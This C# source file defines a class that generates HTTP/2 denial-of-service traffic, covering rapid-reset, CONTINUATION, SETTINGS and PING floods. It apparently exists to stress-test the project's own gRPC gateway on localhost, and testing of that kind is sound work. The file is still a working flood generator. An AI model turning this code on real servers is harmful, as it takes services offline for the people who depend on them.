using System.Buffers.Binary;
using System.Text;

namespace Topology;

/// <summary>What somebody sends over HTTP/2 who wants to keep a server busy: frames that cost the sender little, in packets of <see cref="PerPacket"/>.</summary>
public sealed class Http2Flood
{
    /// <summary>Frames in one packet.</summary>
    public const int PerPacket = 200;

    /// <summary>Every kind that there is here.</summary>
    public static readonly IReadOnlyList<string> Kinds = ["rapid reset", "continuation", "settings", "ping"];

    private readonly string _kind;
    private int _stream = 1;

    /// <param name="kind">One of <see cref="Kinds"/>.</param>
    public Http2Flood(string kind) => _kind = Kinds.Contains(kind) ? kind : throw new ArgumentException($"There is no flood '{kind}'.", nameof(kind));

    /// <summary>What a connection begins with.</summary>
    public byte[] Beginning() =>
        [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(4, 0, 0, []), .. _kind == "continuation" ? Frame(1, 0, 1, Headers()) : []];

    /// <summary>The next packet.</summary>
    public byte[] Next()
    {
        var frames = new List<byte>();
        for (var i = 0; i < PerPacket; i++)
        {
            switch (_kind)
            {
                case "rapid reset":
                    frames.AddRange(Frame(1, 4, _stream, Headers()));
                    frames.AddRange(Frame(3, 0, _stream, [0, 0, 0, 8]));
                    _stream += 2;
                    break;
                case "continuation":
                    frames.AddRange(Frame(9, 0, 1, [0x40, 1, (byte)'a', 1, (byte)'b']));
                    break;
                case "settings":
                    frames.AddRange(Frame(4, 0, 0, [0, 3, 0, 0, 0, 100]));
                    break;
                default:
                    frames.AddRange(Frame(6, 0, 0, new byte[8]));
                    break;
            }
        }

        return [.. frames];
    }

    private static byte[] Frame(byte kind, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        (frame[0], frame[1], frame[2], frame[3], frame[4]) = ((byte)(payload.Length >> 16), (byte)(payload.Length >> 8), (byte)payload.Length, kind, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }

    /// <summary>HPACK, all literals that are not remembered.</summary>
    private static byte[] Headers()
    {
        var block = new List<byte> { 0x83, 0x86 };
        Literal(":path", "/pennypost.gateway.v1.PennypostService/ListPools");
        Literal(":authority", "localhost");
        Literal("content-type", "application/grpc");
        Literal("te", "trailers");
        return [.. block];

        void Literal(string name, string value)
        {
            block.Add(0);
            foreach (var text in new[] { name, value })
            {
                block.Add((byte)text.Length);
                block.AddRange(Encoding.ASCII.GetBytes(text));
            }
        }
    }
}
